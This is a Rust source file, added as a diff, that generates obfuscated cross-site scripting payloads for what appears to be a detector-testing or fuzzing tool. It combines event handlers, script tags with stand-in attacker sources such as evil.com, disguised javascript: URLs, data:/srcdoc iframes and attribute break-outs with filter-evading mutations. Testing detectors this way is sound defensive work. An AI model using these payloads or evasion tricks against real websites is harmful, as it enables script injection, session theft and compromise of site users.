@@ -1,0 +1,274 @@
+//! `xss-html`: markup that creates executable script when reflected into a page.
+//!
+//! Grammar: a *vector* (event-handler attribute on an element that fires it, `<script>` with
+//! code or a source, a script URL in a URL attribute, an HTML `data:` URL, `srcdoc`, CSS
+//! script) × the *JavaScript* it runs (from [`super::xss_js::expression`]) × *tag syntax*
+//! (attribute separators `/`, tab, newline, form feed; quotes; case; tag left open) × a
+//! *context break-out* before it (`">`, `</title>`, `-->`...) or an attribute break-out with no
+//! tag at all. Mutations: case, separators, entities in attribute values, scheme obfuscation
+//! (entities, tabs, leading controls), open tag, transport encodings.
+
+use super::xss_js::{base64, expression};
+use crate::mutate::{html_entities, join, random_case, transport_layer};
+use crate::{Carrier, Family, Rng, Variant};
+
+/// Attribute separators the tokenizer spec accepts besides a space.
+const SEPARATORS: &[&str] = &["/", "\t", "\n", "\x0c", "  ", "/ ", " /", "\r\n"];
+/// Whitespace after an unquoted value (a `/` would join the value).
+const BETWEEN_ATTRS: &[&str] = &[" ", "\t", "\n"];
+/// What browsers strip before a URL scheme.
+const LEADING_CONTROLS: &[&str] = &[" ", "&#x20;", "\x01", "&#1;", "  "];
+/// Tabs and newlines (raw or as references) that browsers drop inside a scheme.
+const SCHEME_BREAKS: &[&str] = &["\t", "&Tab;", "&#x09;", "&#10;", "&NewLine;", "&#x0A;"];
+
+pub struct XssHtml;
+
+pub static XSS_HTML: XssHtml = XssHtml;
+
+/// Element, the attributes it needs for the event to fire, and events it fires.
+const HOSTS: &[(&str, &str, &[&str])] = &[
+    ("img", "src=x", &["onerror"]),
+    ("svg", "", &["onload"]),
+    ("body", "", &["onload", "onpageshow", "onfocus", "onhashchange"]),
+    ("input", "autofocus", &["onfocus", "onblur", "onfocusin"]),
+    ("details", "open", &["ontoggle"]),
+    ("video", "src=x", &["onerror", "onloadstart"]),
+    ("audio", "src=x", &["onerror"]),
+    ("iframe", "", &["onload"]),
+    ("marquee", "", &["onstart", "onfinish"]),
+    ("select", "autofocus", &["onfocus"]),
+    ("textarea", "autofocus", &["onfocus"]),
+    ("a", "href=#", &["onmouseover", "onclick", "onpointerenter", "onauxclick"]),
+    ("div", "", &["onmouseover", "onpointerover", "onwheel", "onanimationstart", "oncopy"]),
+    ("x", "contenteditable", &["onfocus", "onbeforeinput", "onkeydown"]),
+    ("style", "", &["onload"]),
+    ("object", "data=x", &["onerror"]),
+    ("animate", "attributeName=x dur=1s", &["onbegin", "onend"]),
+];
+/// Elements and the attribute that takes a URL they load or navigate to.
+const URL_SLOTS: &[(&str, &str, &str)] = &[
+    ("<a ", "href", ">click</a>"),
+    ("<iframe ", "src", "></iframe>"),
+    ("<form ", "action", "><input type=submit></form>"),
+    ("<form><button ", "formaction", ">x</button></form>"),
+    ("<object ", "data", "></object>"),
+    ("<embed ", "src", ">"),
+    ("<math><maction actiontype=statusline ", "xlink:href", ">click</maction></math>"),
+    ("<svg><a ", "xlink:href", "><text x=9 y=9>x</text></a></svg>"),
+    ("<svg><animate attributeName=href ", "values", "/><a><text>x</text></a></svg>"),
+    ("<svg><set attributeName=href ", "to", "/></svg>"),
+    ("<isindex type=image ", "action", ">"),
+    ("<frameset><frame ", "src", ">"),
+];
+const BREAKOUTS: &[&str] =
+    &["\">", "'>", "</title>", "</textarea>", "</script>", "-->", "</style>", "\"/>", "'\">", "</noscript>", ">"];
+
+impl Family for XssHtml {
+    fn name(&self) -> &'static str {
+        "xss-html"
+    }
+
+    fn detector(&self) -> &'static str {
+        "xss"
+    }
+
+    fn generate(&self, rng: &mut Rng) -> Variant {
+        let mut muts: Vec<&'static str> = Vec::new();
+        let (js, _) = expression(rng, &mut Vec::new());
+        let payload = match rng.below(12) {
+            0..=4 => event_handler(rng, &js, &mut muts),
+            5 | 6 => script(rng, &js, &mut muts),
+            7..=9 => url_vector(rng, &js, &mut muts),
+            10 => data_or_srcdoc(rng, &js, &mut muts),
+            _ => attribute_breakout(rng, &js, &mut muts),
+        };
+        let payload = if payload.starts_with('<') && rng.chance(0.3) {
+            muts.push("context-breakout");
+            format!("{}{payload}", rng.pick(BREAKOUTS))
+        } else {
+            payload
+        };
+        let (payload, layer) = transport_layer(rng, &payload);
+        muts.push(layer);
+        Variant { family: self.name(), mutation: join(&muts), payload, carrier: Carrier::Value }
+    }
+}
+
+/// Between a tag name and an attribute, or between attributes: the spec accepts `/` and any
+/// ASCII whitespace.
+fn sep(rng: &mut Rng, muts: &mut Vec<&'static str>) -> &'static str {
+    if rng.chance(0.6) {
+        return " ";
+    }
+    muts.push("separator");
+    SEPARATORS[rng.below(SEPARATORS.len())]
+}
+
+fn quoted(rng: &mut Rng, value: &str, muts: &mut Vec<&'static str>) -> String {
+    match rng.below(4) {
+        0 if !value.contains([' ', '\t', '\n', '>']) => value.to_string(),
+        1 if !value.contains('\'') => format!("'{value}'"),
+        _ if !value.contains('"') => format!("\"{value}\""),
+        _ => {
+            muts.push("entities");
+            format!("\"{}\"", value.replace('"', "&quot;"))
+        }
+    }
+}
+
+fn name_case(rng: &mut Rng, name: &str, muts: &mut Vec<&'static str>) -> String {
+    if rng.chance(0.3) {
+        muts.push("case");
+        random_case(rng, name)
+    } else {
+        name.to_string()
+    }
+}
+
+fn attr_value_js(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> String {
+    if rng.chance(0.25) {
+        muts.push("entities");
+        html_entities(rng, js, 0.4)
+    } else {
+        js.to_string()
+    }
+}
+
+fn event_handler(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> String {
+    muts.push("event-handler");
+    let (tag, needs, events) = *rng.pick(HOSTS);
+    let event = *rng.pick(events);
+    let tag = name_case(rng, tag, muts);
+    let event = name_case(rng, event, muts);
+    let value = attr_value_js(rng, js, muts);
+    let value = quoted(rng, &value, muts);
+    let mut out = format!("<{tag}");
+    // After an unquoted value only whitespace separates: a `/` would join the value.
+    let mut unquoted = false;
+    if !needs.is_empty() {
+        out.push_str(sep(rng, muts));
+        out.push_str(needs);
+        unquoted = needs.contains('=');
+    }
+    if rng.chance(0.2) {
+        out.push_str(if unquoted { " " } else { sep(rng, muts) });
+        out.push_str(&format!("id={}", rng.range(1, 999)));
+        unquoted = true;
+    }
+    out.push_str(if unquoted { BETWEEN_ATTRS[rng.below(BETWEEN_ATTRS.len())] } else { sep(rng, muts) });
+    out.push_str(&format!("{event}={value}"));
+    if rng.chance(0.15) {
+        // Left open: the page's own markup supplies the `>`.
+        muts.push("open-tag");
+        out.push_str(if rng.chance(0.5) { "//" } else { " " });
+    } else {
+        out.push('>');
+    }
+    out
+}
+
+fn script(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> String {
+    muts.push("script");
+    let open = name_case(rng, "script", muts);
+    let close = name_case(rng, "script", muts);
+    match rng.below(4) {
+        0 => {
+            let host = format!(
+                "{}.{}",
+                ["evil", "x", "attacker", "xss"][rng.below(4)],
+                ["com", "rs", "io", "ht"][rng.below(4)]
+            );
+            let src = *rng.pick(&["//", "https://", "http://", "\\\\"]);
+            format!("<{open}{}src={src}{host}/{}.js></{close}>", sep(rng, muts), rng.range(1, 999))
+        }
+        1 => format!("<{open}{}src=data:,{js}></{close}>", sep(rng, muts)),
+        2 => format!("<{open} type=text/javascript>{js}</{close}>"),
+        _ => format!("<{open}>{js}</{close}>"),
+    }
+}
+
+/// A `javascript:` URL with the scheme hidden the ways browsers still accept.
+fn script_url(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> String {
+    let mut scheme = String::new();
+    let word = if rng.chance(0.4) {
+        muts.push("case");
+        random_case(rng, "javascript")
+    } else {
+        "javascript".to_string()
+    };
+    if rng.chance(0.2) {
+        muts.push("leading-controls");
+        scheme.push_str(LEADING_CONTROLS[rng.below(LEADING_CONTROLS.len())]);
+    }
+    for (i, c) in word.chars().enumerate() {
+        scheme.push(c);
+        if i > 0 && i < 9 && rng.chance(0.08) {
+            muts.push("scheme-whitespace");
+            scheme.push_str(SCHEME_BREAKS[rng.below(SCHEME_BREAKS.len())]);
+        }
+    }
+    let colon = if rng.chance(0.3) {
+        muts.push("entities");
+        *rng.pick(&["&colon;", "&#58;", "&#x3a;", "&#0058", "&#x3A;"])
+    } else {
+        ":"
+    };
+    let body = attr_value_js(rng, js, muts);
+    format!("{scheme}{colon}{body}")
+}
+
+fn url_vector(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> String {
+    muts.push("js-url");
+    let (open, attr, close) = *rng.pick(URL_SLOTS);
+    let url = script_url(rng, js, muts);
+    let url = quoted(rng, &url, muts);
+    let attr = name_case(rng, attr, muts);
+    format!("{open}{attr}={url}{close}")
+}
+
+fn data_or_srcdoc(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> String {
+    let inner = format!("<script>{js}</script>");
+    match rng.below(4) {
+        0 => {
+            muts.push("data-url");
+            format!("<iframe src=\"data:text/html,{}\"></iframe>", inner.replace('"', "&quot;"))
+        }
+        1 => {
+            muts.push("data-url");
+            let (tag, attr) = *rng.pick(&[("object", "data"), ("embed", "src"), ("iframe", "src")]);
+            let mime = *rng.pick(&["text/html", "image/svg+xml", "application/xhtml+xml"]);
+            format!("<{tag} {attr}=\"data:{mime};base64,{}\">", base64(&inner))
+        }
+        2 => {
+            muts.push("srcdoc");
+            let escaped = if rng.chance(0.5) { inner.replace('<', "&lt;").replace('>', "&gt;") } else { inner };
+            format!("<iframe srcdoc=\"{}\"></iframe>", escaped.replace('"', "&quot;"))
+        }
+        _ => {
+            muts.push("style");
+            let css = if rng.chance(0.5) {
+                format!("width:expression({js})")
+            } else {
+                format!("background:url(javascript:{js})")
+            };
+            format!("<div style=\"{}\">x</div>", css.replace('"', "'"))
+        }
+    }
+}
+
+/// Breaking out of a quoted attribute value of the page's own tag: no `<` at all.
+fn attribute_breakout(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> String {
+    muts.push("attribute-breakout");
+    let q = *rng.pick(&["\"", "'"]);
+    let (_, needs, events) = *rng.pick(HOSTS);
+    let event = *rng.pick(events);
+    let event = name_case(rng, event, muts);
+    let js = js.replace(q, if q == "\"" { "'" } else { "\"" });
+    let extra = if needs.is_empty() { "autofocus" } else { needs };
+    match rng.below(3) {
+        0 => format!("{q} {event}={q}{js}"),
+        // Unquoted, the value ends at whitespace: comments stand in for spaces.
+        1 => format!("{q} {extra} {event}={} x={q}", js.replace(' ', "/**/")),
+        _ => format!("x{q}{}{event}={q}{js}{q}", sep(rng, muts)),
+    }
+}
